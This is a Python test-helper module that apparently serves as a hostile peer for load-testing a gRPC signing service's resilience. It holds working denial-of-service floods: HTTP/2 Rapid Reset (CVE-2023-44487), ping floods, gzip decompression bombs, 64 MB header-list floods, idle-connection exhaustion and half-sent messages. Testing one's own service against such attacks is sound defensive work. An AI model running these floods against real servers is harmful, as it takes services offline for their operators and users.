"""A peer that means harm, in a process of its own: `python -m tests.signer.flooding KIND ADDRESS`.

Says so once it floods, and goes on until it is killed. What the service closes is opened again.
Imports next to nothing, so that it is there at once.
"""

from __future__ import annotations

import gzip
import os
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from tests.signer import http2
from tests.signer.http2 import (
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    Raw,
    frame,
)

SIGN = "/sealbook.v1.Signer/Sign"
ANYTHING = bytes(200)  # nobody looks at what nobody sent
BLOCK = http2.request(SIGN)
HELLO = http2.PREFACE + frame(http2.SETTINGS)
ZIPPED = http2.request(SIGN, ("grpc-encoding", "gzip"))


def opened(address: str) -> socket.socket:
    """Return a connection that does not wait for whoever does not read."""
    host, _, port = address.rpartition(":")
    sock = socket.create_connection((host, int(port)), 5)
    sock.settimeout(0.2)
    return sock


def message(body: bytes, stream: int, flags: int = END_STREAM, *, zipped: bool = False) -> bytes:
    """Return the frames of a gRPC message."""
    raw = bytes([zipped]) + len(body).to_bytes(4, "big") + body
    pieces = [raw[i : i + http2.LARGEST] for i in range(0, len(raw), http2.LARGEST)]
    last = len(pieces) - 1
    return b"".join(
        frame(DATA, piece, flags if i == last else 0, stream) for i, piece in enumerate(pieces)
    )


def idle(address: str, count: int = 1_500) -> Iterator[None]:
    """Keep many connections that say nothing."""
    held: list[socket.socket] = []
    while True:
        while len(held) < count:
            held.append(opened(address))
        yield
        time.sleep(0.2)
        held = [sock for sock in held if not _ended(sock)]


def _ended(sock: socket.socket) -> bool:
    try:
        if sock.recv(4096, socket.MSG_DONTWAIT):
            return False
    except BlockingIOError:
        return False
    except OSError:
        pass
    sock.close()
    return True


def rapid_reset(address: str) -> Iterator[None]:
    """Open streams and take them back at once (CVE-2023-44487)."""

    def frames(first: int) -> bytes:
        streams = range(first, first + 200, 2)
        cancel = (8).to_bytes(4, "big")
        return b"".join(
            frame(HEADERS, BLOCK, http2.END_HEADERS, n) + frame(RST_STREAM, cancel, 0, n)
            for n in streams
        )

    return _streaming(address, frames)


def pings(address: str) -> Iterator[None]:
    """Ping as fast as it goes."""
    return _streaming(address, lambda _: frame(PING, bytes(8)) * 100)


def bombs(address: str) -> Iterator[None]:
    """Send 10 KB that would be 10 MB, again and again."""
    bomb = gzip.compress(bytes(10 << 20), 9)

    def frames(first: int) -> bytes:
        streams = range(first, first + 40, 2)
        return b"".join(
            frame(HEADERS, ZIPPED, http2.END_HEADERS, n) + message(bomb, n, zipped=True)
            for n in streams
        )

    return _streaming(address, frames)


def header_lists(address: str) -> Iterator[None]:
    """Send header lists of 64 MB."""
    piece = b"\0\1x\x7f\x81\x7b" + b"y" * 15_872
    while True:
        with suppress(OSError), opened(address) as sock:
            sock.sendall(HELLO + frame(HEADERS, BLOCK, 0, 1))
            for _ in range((64 << 20) // len(piece)):
                sock.sendall(frame(CONTINUATION, piece, 0, 1))
        yield


def header_lists_of_http(address: str) -> Iterator[None]:
    """Send header lists of 64 MB to the HTTP side."""
    piece = b"x-%d: " + b"y" * 16_000 + b"\r\n"
    while True:
        with suppress(OSError), opened(address) as sock:
            sock.sendall(b"GET /healthz HTTP/1.1\r\nhost: x\r\n")
            for n in range((64 << 20) // len(piece)):
                sock.sendall(piece % n)
        yield


def many_calls(address: str, count: int = 10_000) -> Iterator[None]:
    """Have ten thousand calls under way, by callers who are nobody, as they are answered."""
    each = 250
    held: list[tuple[socket.socket, int]] = []
    while True:
        while len(held) < count // each:
            with suppress(OSError):
                sock = opened(address)
                sock.sendall(HELLO)
                held.append((sock, 1))
        again = []
        for i, (sock, first) in enumerate(held):
            if i % 10 == 9:  # that the others may begin to be asked too
                yield
            streams = range(first, first + 2 * each, 2)
            calls = b"".join(
                frame(HEADERS, BLOCK, http2.END_HEADERS, n) + message(ANYTHING, n) for n in streams
            )
            try:
                sock.sendall(calls)
            except OSError:
                sock.close()
            else:
                _drain(sock)
                again.append((sock, first + 2 * each))
        held = again
        yield


def half_messages(address: str) -> Iterator[None]:
    """Begin messages of a megabyte on many streams, as fast as windows allow, and end none."""
    most = 1 << 20
    first = b"\0" + most.to_bytes(4, "big") + bytes(http2.LARGEST - 5)
    held = []
    while True:
        if len(held) == 4:
            held.pop(0).close()
        with suppress(OSError, AssertionError):
            raw = Raw(address, polite=True)
            held.append(raw)
            allowed = raw.settings()[http2.INITIAL_WINDOW_SIZE]
            pieces = [first, *[bytes(http2.LARGEST)] * (min(most, allowed) // http2.LARGEST - 2)]
            window = 65_535
            for n in range(1, 512, 2):
                raw.send(frame(HEADERS, BLOCK, http2.END_HEADERS, n))
                for piece in pieces:
                    while window < len(piece):
                        raw.socket.settimeout(0.5)
                        one = raw.until(http2.WINDOW_UPDATE)
                        window += 0 if one.stream else int.from_bytes(one.payload, "big")
                    raw.send(frame(DATA, piece, 0, n))
                    window -= len(piece)
        yield
        time.sleep(0.3)  # it is memory that is to be filled: calls enough make the others


def _streaming(
    address: str, frames: Callable[[int], bytes], connections: int = 8
) -> Iterator[None]:
    """Send `frames` from the first stream on, and go on with the next, on each connection."""
    held: list[tuple[socket.socket, int]] = []
    while True:
        while len(held) < connections:
            with suppress(OSError):
                sock = opened(address)
                sock.sendall(HELLO)
                held.append((sock, 1))
        again = []
        for sock, first in held:
            try:
                sock.sendall(frames(first))
            except OSError:
                sock.close()
            else:
                _drain(sock)
                again.append((sock, first + 200))
        held = again
        yield


def _drain(sock: socket.socket) -> None:
    with suppress(OSError):
        while sock.recv(1 << 16, socket.MSG_DONTWAIT):
            pass


KINDS = {
    "idle": idle,
    "rapid reset": rapid_reset,
    "pings": pings,
    "many calls": many_calls,
    "bombs": bombs,
    "header lists": header_lists,
    "half messages": half_messages,
    "idle of http": idle,
    "header lists of http": header_lists_of_http,
}


def main(kind: str, address: str) -> None:
    """Flood until killed."""
    os.nice(10)  # it would have a machine of its own
    flood = KINDS[kind](address)
    next(flood)
    print("flooding", flush=True)
    for _ in flood:
        pass


if __name__ == "__main__":
    main(*sys.argv[1:])
